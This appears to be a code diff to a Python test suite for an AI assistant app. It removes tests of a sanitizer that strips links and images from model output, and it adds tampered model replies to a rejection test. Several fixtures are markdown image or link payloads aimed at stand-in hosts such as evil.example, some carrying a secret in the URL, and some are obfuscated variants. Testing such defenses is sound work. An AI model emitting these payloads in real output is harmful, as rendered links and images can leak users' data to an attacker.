@@ -13,7 +13,6 @@ import pytest
 
 from studio_ai.api import Ending, ModelRequest, ModelTurn, ProviderError, Tool, ToolCall, ToolResult, Usage
 from studio_ai.tools import Nothing
-from studio_ai.wording import Speech, harmless, legible
 from studio_kernel.hookspecs import hookimpl
 from studio_kernel.storage.sql import Statement
 from studio_kernel.testing.app import Client, StudioApp
@@ -67,57 +66,6 @@ def test_without_any_source_no_model_is_asked_to_answer(make_assistant: MakeAssi
     assert data["message"].startswith("I have no source for that.")
     assert data["fallback_reason"] == "there is no source that the provider could rest an answer on"
     assert all(request.tools for request in model.requests)
-
-
-def test_what_loads_or_leads_anywhere_is_taken_out() -> None:
-    text = "See ![x](http://evil/?q=secret) and [here](https://evil.example) or www.evil.example <img src=x>"
-    assert harmless(text) == "See x and here or [address removed] &lt;img src=x>"
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![a[b]c](//evil.example/p.png?q=secret)",
-        "[[x](y)](//evil.example)",
-        "![x][y]\n\n[y]: //evil.example/p.png",
-        "![x]\n\n[x]: &#104;ttps://evil.example/p.png",
-        "[a\\]b](&#x68;ttps://evil.example)",
-        "[x](\n//evil.example)",
-        "<https://evil.example>",
-    ],
-)
-def test_no_way_of_writing_a_link_is_left(text: str) -> None:
-    from markdown_it import MarkdownIt
-
-    # Told at once, or as it comes, piece by piece and cut anywhere.
-    for size in (len(text), 1, 3):
-        said: list[str] = []
-        speech = Speech(said.append)
-        for start in range(0, len(text), size):
-            speech.add(text[start : start + size])
-        speech.end()
-        for shown in (harmless(text), "".join(said)):
-            page = MarkdownIt("commonmark").render(shown)
-            assert "<a" not in page
-            assert "<img" not in page
-
-
-def test_what_no_database_takes_is_left_out() -> None:
-    assert legible("a\0b\ud83dc") == "abc"
-    said: list[str] = []
-    speech = Speech(said.append)
-    for piece in ("Well \ud83d", "\ude00 done\ud83d"):
-        speech.add(piece)
-    speech.end()
-    assert "".join(said) == "Well \U0001f600 done"
-
-
-def test_words_in_scripts_without_spaces_come_as_they_are_said() -> None:
-    said: list[str] = []
-    speech = Speech(said.append)
-    for piece in "アクセス":
-        speech.add(piece)
-    assert said == list("アクセス")
 
 
 def test_whatever_a_model_writes_is_kept_and_logged(make_assistant: MakeAssistant) -> None:
@@ -388,19 +336,21 @@ def test_a_model_words_a_policy_better_or_the_template_stays(make_assistant: Mak
     assert "For clinics." in data["content"]
 
 
-SPOILT = {
-    "its headings are others": lambda text: "PWNED",
-    "it has fewer statements": lambda text: text.replace("\n- ", "\n", 3),
-    "it lacks figures": lambda text: text.replace("35 days", "3 days"),
-    "it has HTML or links": lambda text: text.replace("Acme", "[Acme](http://evil)"),
-}
+SPOILT = [
+    ("its headings are others", lambda text: "PWNED"),
+    ("it has fewer statements", lambda text: text.replace("\n- ", "\n", 3)),
+    ("it lacks figures", lambda text: text.replace("35 days", "3 days")),
+    ("it has HTML or links", lambda text: text.replace("Acme", "[Acme](http://evil)")),
+    ("it has HTML or links", lambda text: text.replace("Acme", "![Acme]") + "\n[Acme]: //evil.example/p.png\n"),
+    ("it has HTML or links", lambda text: text.replace("Acme", "www.evil.example")),
+]
 
 
 def test_a_policy_that_lost_something_is_not_taken(make_assistant: MakeAssistant) -> None:
     model = Scripted()
     client = make_assistant(model).client("admin")
     body = {"type": "backup_policy", "company_name": "Acme", "provider": "scripted"}
-    for reason, spoil in SPOILT.items():
+    for reason, spoil in SPOILT:
         model.reply = lambda shown, spoil=spoil: spoil(shown["draft"])
         data = client.post("/api/v1/ai/generate/policy", json=body).json()["data"]
         assert (data["provider"], data["fallback"]) == ("offline", True)
